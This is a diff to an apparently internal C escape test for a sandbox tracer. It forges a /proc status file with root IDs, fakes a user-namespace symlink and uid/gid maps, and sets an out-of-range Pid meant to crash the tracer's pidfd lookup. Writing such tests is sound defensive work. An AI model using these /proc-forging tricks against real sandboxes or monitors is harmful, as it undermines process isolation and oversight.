@@ -22,7 +22,10 @@
  * (its /proc moved to WORK/proc first) and binds PID's fd directory at /proc/<its own pid>/fd,
  * the forged status beside it: the walk searches that directory as the task's own
  * (_own_fd_directory, by name: proc_fd_permission) whatever its mode -- a holder that is not
- * dumpable, root's, whose fd directory the task may not search natively. */
+ * dumpable, root's, whose fd directory the task may not search natively.  ESC_CRASH (with
+ * ESC_AS_OWN) forges a status the walk takes to a root process of the task's own user
+ * namespace (ns/user a symlink the tracer resolves to the task's, uid_map "0 0 1") whose Pid
+ * is 2147483648: close 26 asks the kernel about that pid (os.pidfd_open: OverflowError). */
 #include "attack.h"
 #include <sched.h>
 #include <sys/mount.h>
@@ -61,8 +64,21 @@ int main(int argc, char **argv) {
         skipped("bind %s: %s", theirs, ename(errno));
     if (!getenv("ESC_NO_STATUS")) {
         snprintf(status, sizeof status, "%s/status", base);
-        snprintf(text, sizeof text, "Name:\tx\nTgid:\t%d\nPid:\t%d\nUid:\t0\t0\t0\t0\n"
-                 "Gid:\t0\t0\t0\t0\n", (int)getpid(), (int)getpid());
+        snprintf(text, sizeof text, "Name:\tx\nTgid:\t%d\nPid:\t%s\nUid:\t0\t0\t0\t0\n"
+                 "Gid:\t0\t0\t0\t0\nCapPrm:\t0\n", getenv("ESC_CRASH") ? 1 : (int)getpid(),
+                 getenv("ESC_CRASH") ? "2147483648" : "1");
+        if (getenv("ESC_CRASH")) {
+            char at[700], to[64];
+            snprintf(at, sizeof at, "%s/ns", base);
+            snprintf(to, sizeof to, "/proc/%d/ns/user", (int)getpid());
+            if (mkdir(at, 0755)) skipped("mkdir %s: %s", at, ename(errno));
+            snprintf(at, sizeof at, "%s/ns/user", base);
+            if (symlink(to, at)) skipped("symlink %s: %s", at, ename(errno));
+            snprintf(at, sizeof at, "%s/uid_map", base);
+            write_file(at, "0 0 1\n");
+            snprintf(at, sizeof at, "%s/gid_map", base);
+            write_file(at, "0 0 1\n");
+        }
         int err = write_file(status, text);
         if (err < 0) skipped("write %s: %s", status, ename(-err));
         char over[64];
